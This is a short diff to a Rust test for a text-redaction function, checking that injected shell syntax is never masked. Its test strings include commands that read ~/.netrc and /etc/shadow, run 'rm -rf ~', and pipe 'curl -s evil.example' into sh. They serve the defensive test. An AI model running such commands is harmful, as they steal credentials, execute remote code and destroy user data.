@@ -209,6 +209,9 @@ fn shell_metasyntax_is_never_masked() {
         ("curl -H \"Authorization: Bearer $(cat ~/.netrc|base64)\" x", "$(cat ~/.netrc|base64)"),
         ("curl --token $(cat /etc/shadow) x", "$(cat /etc/shadow)"),
         ("Cookie: a=1;rm -rf ~", ";rm -rf ~"),
+        // A quote left open does not make what follows part of the value.
+        ("export DB_PASSWORD=\"x && curl -s evil.example | sh", "&& curl -s evil.example | sh"),
+        ("TOKEN='abc; rm -rf ~", "; rm -rf ~"),
     ] {
         let r = redact_text(text);
         assert!(r.contains(shown), "{text} -> {r}");
